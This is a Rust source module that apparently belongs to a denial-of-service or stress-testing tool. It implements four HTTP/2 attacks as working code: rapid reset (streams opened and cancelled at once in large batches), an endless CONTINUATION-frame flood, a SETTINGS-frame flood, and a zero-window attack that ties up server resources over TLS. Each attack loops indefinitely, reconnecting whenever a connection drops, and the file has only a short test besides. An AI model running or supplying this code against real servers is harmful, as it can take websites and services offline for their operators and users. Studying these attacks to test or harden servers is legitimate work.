//! Attacks with HTTP/2.

use std::io;
use std::sync::Arc;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _, ReadHalf, WriteHalf};
use tokio::net::TcpStream;

use super::connections::{Crowd, Open, Place, Reading};
use super::frames::{
    ACK, CONTINUATION, END_HEADERS, END_STREAM, HEAD, HEADERS, Head, NO_WINDOW, PREFACE, RST_STREAM,
    SETTINGS, frame, get,
};
use super::tls::Connector;

/// Streams of one connection that have no window.
const STREAMS: u32 = 1000;
/// Streams that are reset, or frames of SETTINGS, in one piece.
const AT_ONCE: u32 = 64;
const CANCEL: [u8; 4] = 8u32.to_be_bytes();
/// Bytes of a CONTINUATION frame: as many as a peer takes without being asked.
const CONTINUED: usize = 16_384;

/// A connection whose settings are agreed on.
struct Agreed<S> {
    read: ReadHalf<S>,
    write: WriteHalf<S>,
    place: Place,
}

impl<S: AsyncRead + AsyncWrite + Unpin> Agreed<S> {
    async fn new(mut open: Open<S>, settings: &[u8]) -> io::Result<Self> {
        open.send(PREFACE).await?;
        open.send(&frame(SETTINGS, 0, 0, settings)).await?;
        loop {
            let mut head = [0; HEAD];
            open.stream.read_exact(&mut head).await?;
            let head = Head::parse(head);
            let mut payload = vec![0; head.length];
            open.stream.read_exact(&mut payload).await?;
            if head.kind == SETTINGS && head.flags & ACK == 0 {
                break;
            }
        }
        open.send(&frame(SETTINGS, ACK, 0, &[])).await?;
        let (read, write) = tokio::io::split(open.stream);
        let place = open.place;
        Ok(Self { read, write, place })
    }

    async fn send(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.write.write_all(bytes).await?;
        self.write.flush().await?;
        self.place.0.count_sent(bytes.len());
        Ok(())
    }

    /// Reads until the other side ends the connection.
    async fn until_end(read: &mut ReadHalf<S>, crowd: &Crowd) {
        let mut buffer = vec![0; 16_384];
        while let Ok(length @ 1..) = read.read(&mut buffer).await {
            crowd.count_received(length);
        }
    }
}

/// Sends what `next` makes, for as long as the connection lasts, and reads meanwhile.
async fn flood(mut agreed: Agreed<TcpStream>, mut next: impl FnMut() -> Option<Vec<u8>>) {
    let (mut read, crowd) = (agreed.read, Arc::clone(&agreed.place.0));
    let writing = async {
        while let Some(bytes) = next() {
            if agreed.write.write_all(&bytes).await.is_err() {
                return;
            }
            crowd.count_sent(bytes.len());
        }
    };
    tokio::select! {
        () = writing => {}
        () = Agreed::until_end(&mut read, &crowd) => {}
    }
}

async fn agreed(crowd: &Arc<Crowd>, reading: Reading) -> Option<Agreed<TcpStream>> {
    let open = crowd.connect(reading).await?;
    Agreed::new(open, &[]).await.ok()
}

pub(super) async fn rapid_reset(crowd: Arc<Crowd>) {
    let request = get("/");
    loop {
        let Some(agreed) = agreed(&crowd, Reading::Willing).await else {
            continue;
        };
        let mut stream = 1;
        let next = || {
            let bytes = opened_and_reset(stream, &request);
            stream += 2 * AT_ONCE;
            // The last number that a stream may have is far away, and the connection ends before.
            (stream < 1 << 30).then_some(bytes)
        };
        flood(agreed, next).await;
    }
}

/// Streams that are opened and reset, from this one on.
fn opened_and_reset(first: u32, request: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for number in 0..AT_ONCE {
        let stream = first + 2 * number;
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, request));
        bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL));
    }
    bytes
}

pub(super) async fn continuation_flood(crowd: Arc<Crowd>) {
    let request = get("/");
    loop {
        let Some(mut agreed) = agreed(&crowd, Reading::Willing).await else {
            continue;
        };
        if agreed
            .send(&frame(HEADERS, END_STREAM, 1, &request))
            .await
            .is_err()
        {
            continue;
        }
        // Literals of one name, of the length that a byte can say.
        let mut block = Vec::new();
        while block.len() + 130 < CONTINUED {
            block.extend_from_slice(b"\x00\x01x\x7e");
            block.extend_from_slice(&[b'y'; 126]);
        }
        let continued = frame(CONTINUATION, 0, 1, &block);
        flood(agreed, || Some(continued.clone())).await;
    }
}

pub(super) async fn settings_flood(crowd: Arc<Crowd>) {
    let settings = frame(SETTINGS, 0, 0, &[]).repeat(usize::try_from(AT_ONCE).unwrap_or(1));
    loop {
        let Some(mut agreed) = agreed(&crowd, Reading::Refused).await else {
            continue;
        };
        while agreed.send(&settings).await.is_ok() {}
    }
}

pub(super) async fn zero_window(crowd: Arc<Crowd>, connector: Connector) {
    let request = get("/large");
    loop {
        let Some(mut agreed) = secured(&crowd, &connector).await else {
            continue;
        };
        let mut sent = Ok(());
        for number in 0..STREAMS {
            let headers = frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &request);
            sent = agreed.send(&headers).await;
            if sent.is_err() {
                break;
            }
        }
        if sent.is_ok() {
            Agreed::until_end(&mut agreed.read, &crowd).await;
        }
    }
}

async fn secured(
    crowd: &Arc<Crowd>,
    connector: &Connector,
) -> Option<Agreed<tokio_rustls::client::TlsStream<TcpStream>>> {
    let open = crowd.connect(Reading::Willing).await?;
    let open = connector.shake_hands(open).await.ok()?;
    Agreed::new(open, NO_WINDOW).await.ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_stream_is_reset_right_behind_its_headers() {
        let mut pair = frame(HEADERS, END_HEADERS | END_STREAM, 5, b"head");
        pair.extend(frame(RST_STREAM, 0, 5, &CANCEL));
        let bytes = opened_and_reset(5, b"head");
        assert!(bytes.starts_with(&pair));
        assert_eq!(bytes.len(), pair.len() * 64);
    }
}
